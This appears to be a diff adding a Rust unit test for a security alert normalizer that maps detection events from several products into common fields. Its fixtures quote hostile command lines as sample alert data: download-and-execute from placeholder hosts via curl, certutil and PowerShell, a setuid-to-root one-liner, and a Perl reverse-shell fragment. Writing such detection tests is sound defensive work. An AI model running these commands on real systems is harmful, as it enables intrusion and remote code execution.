@@ -6807,4 +6807,101 @@ mod tests {
             "{cmd}"
         );
     }
+
+    #[test]
+    fn session_24_shapes() {
+        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
+        // A Cybereason MalOp whose processes name their parent by `parent`: the newest is judged.
+        let cy = json!({"guidString": "11.2", "detectionTypes": ["Malicious use of an interpreter"],
+            "machines": [{"displayName": "ws-1", "osType": "WINDOWS"}],
+            "processes": [
+                {"elementName": "setup.exe", "commandLine": "\"C:\\Users\\u\\Downloads\\setup.exe\"", "parent": "explorer.exe"},
+                {"elementName": "autoit3.exe", "commandLine": "\"C:\\Users\\u\\AppData\\Local\\Temp\\x\\AutoIt3.exe\" C:\\Users\\u\\AppData\\Local\\Temp\\x\\s.a3x", "parent": "setup.exe"}]});
+        let a = from_json(cy, "x").unwrap();
+        assert!(get(&a, "process.command_line").contains("AutoIt3.exe"));
+        assert!(get(&a, "process.parent.command_line").contains("setup.exe"));
+        // … and whose processes after the root cause are `suspiciousElements`.
+        let cy = json!({"guid": "11.3", "detectionTypes": ["Suspicious download and execution"],
+            "machines": [{"displayName": "mba-1", "osType": "OSX"}],
+            "rootCauseElements": [{"elementType": "Process", "name": "applet", "commandLine": "/Users/u/Downloads/I.app/Contents/MacOS/applet", "parentProcess": "launchd"}],
+            "suspiciousElements": [
+                {"elementType": "Process", "name": "sh", "commandLine": "sh -c curl -o /tmp/.i http://1.2.3.4/i && /tmp/.i", "parentProcess": "applet"},
+                {"elementType": "Connection", "name": "10.0.0.1:1 > 1.2.3.4:80", "remoteAddress": "1.2.3.4"}]});
+        let a = from_json(cy, "x").unwrap();
+        assert!(get(&a, "process.command_line").starts_with("sh -c curl"));
+        assert!(get(&a, "process.parent.command_line").ends_with("MacOS/applet"));
+        // Trend Workbench: a URL indicator under `objectCmd` is what the command fetched, not
+        // the process.
+        let tw = json!({"id": "WB-2", "workbenchLink": "https://x", "impactScope": {"entities": []},
+            "indicators": [
+                {"id": 1, "type": "command_line", "field": "processCmd", "value": "\"C:\\Windows\\system32\\cmd.exe\" /c certutil -urlcache -f http://1.2.3.4/a.txt a.exe"},
+                {"id": 2, "type": "command_line", "field": "parentCmd", "value": "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.X\\MSSQL\\Binn\\sqlservr.exe\" -sX"},
+                {"id": 3, "type": "url", "field": "objectCmd", "value": "http://1.2.3.4/a.txt"}]});
+        let a = from_json(tw, "x").unwrap();
+        assert!(get(&a, "process.command_line").contains("certutil"));
+        assert!(get(&a, "process.parent.executable").ends_with("sqlservr.exe"));
+        // Google SecOps UDM: the target's file, the outbound address under `about`, techniques
+        // in `category_details`.
+        let udm = json!({"metadata": {"event_type": "PROCESS_LAUNCH", "product_log_id": "p1"},
+            "principal": {"hostname": "h1", "process": {"command_line": "/bin/sh -c cd /dev/shm/.x && perl ./k", "file": {"full_path": "/usr/bin/dash"}}},
+            "target": {"process": {"command_line": "perl ./k", "file": {"full_path": "/usr/bin/perl"}}, "file": {"full_path": "/dev/shm/.x/k"}},
+            "about": [{"ip": ["89.44.9.217"], "port": 6667}],
+            "security_result": [{"rule_name": "r", "category_details": ["T1059.006", "not-a-technique"]}]});
+        let a = from_json(udm, "x").unwrap();
+        assert_eq!(get(&a, "file.path"), "/dev/shm/.x/k");
+        assert_eq!(get(&a, "destination.ip"), "89.44.9.217");
+        assert_eq!(a.doc.pointer("/destination/port"), Some(&json!(6667)));
+        assert_eq!(
+            a.doc.pointer("/threat/technique/id"),
+            Some(&json!(["T1059.006"]))
+        );
+        // osquery: the login from the environment when the row names no user; the parent's
+        // signature.
+        let oq = json!({"name": "pack_p", "hostIdentifier": "db1", "unixTime": 1, "action": "added",
+            "columns": {"path": "/usr/bin/bash", "cmdline": "/bin/sh -c pg_dump x", "uid": "26", "euid": "26",
+                "env": "SHELL=/bin/sh LOGNAME=postgres USER=postgres", "parent_path": "/usr/sbin/crond", "parent_team_id": "ABCDE12345"}});
+        let a = from_json(oq, "x").unwrap();
+        assert_eq!(get(&a, "user.name"), "postgres");
+        assert_eq!(
+            get(&a, "process.parent.code_signature.team_id"),
+            "ABCDE12345"
+        );
+        // A setuid program's environment names who started it, not its user.
+        let oq = json!({"name": "pack_p", "hostIdentifier": "db1", "unixTime": 1, "action": "added",
+            "columns": {"path": "/usr/bin/bash", "cmdline": "bash -p", "uid": "1000", "euid": "26", "env": "USER=alice"}});
+        assert_eq!(get(&from_json(oq, "x").unwrap(), "user.name"), "");
+        // Sophos Central's SIEM events: the detection's process under `data.process` (with its
+        // parent's command line), and what AMSI was shown.
+        let so = json!({"id": "s1", "type": "Event::Endpoint::Threat::Detected", "customer_id": "c", "location": "PKR-1",
+            "name": "Malicious behavior detected in 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' (AMSI/PsDlIEX-A)",
+            "data": {"process": {"path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "cmdline": "powershell -ep bypass -f c:/windows/temp/s.ps1",
+                "parent_path": "C:\\Windows\\System32\\wsmprovhost.exe", "parent_cmdline": "C:\\Windows\\system32\\wsmprovhost.exe -Embedding"},
+                "amsi_content": "iex ((New-Object Net.WebClient).DownloadString('https://x.example/i.ps1'))"}});
+        let a = from_json(so, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "powershell -ep bypass -f c:/windows/temp/s.ps1"
+        );
+        assert_eq!(
+            get(&a, "process.parent.command_line"),
+            "C:\\Windows\\system32\\wsmprovhost.exe -Embedding"
+        );
+        assert!(get(&a, "powershell.file.script_block_text").starts_with("iex"));
+        // A SentinelOne threat without its arguments: the command an indicator quotes.
+        let s1 = json!({"threatInfo": {"threatId": "1", "threatName": "python3.10", "filePath": "/usr/bin/python3.10", "processUser": "k", "originatorProcess": "bash"},
+            "agentRealtimeInfo": {"agentComputerName": "a1", "agentOsType": "linux"},
+            "indicators": [{"category": "Privilege Escalation", "description": "Process changed its UID to root via setuid capability: python3.10 -c 'import os;os.setuid(0)'"}]});
+        let a = from_json(s1, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "python3.10 -c 'import os;os.setuid(0)'"
+        );
+        // QRadar: a truncated auditd record loses to the longer parsed `Command`.
+        let qr = json!({"events": [{"qid": 1, "LOGSOURCENAME(logsourceid)": "LinuxServer @ j1", "username": "jira",
+            "Process Name": "perl", "Process Path": "/usr/bin/perl", "Command": "perl -e 'use Socket;$i=\"5.1.8.6\";connect(S);exec(\"/bin/sh -i\");'",
+            "Parent Process Name": "sh",
+            "payload": "type=EXECVE msg=audit(1.3:4): argc=3 a0=\"perl\" a1=\"-e\" a2=75736520536F636B65743B"}]});
+        let a = from_json(qr, "x").unwrap();
+        assert!(get(&a, "process.command_line").contains("/bin/sh -i"));
+    }
 }
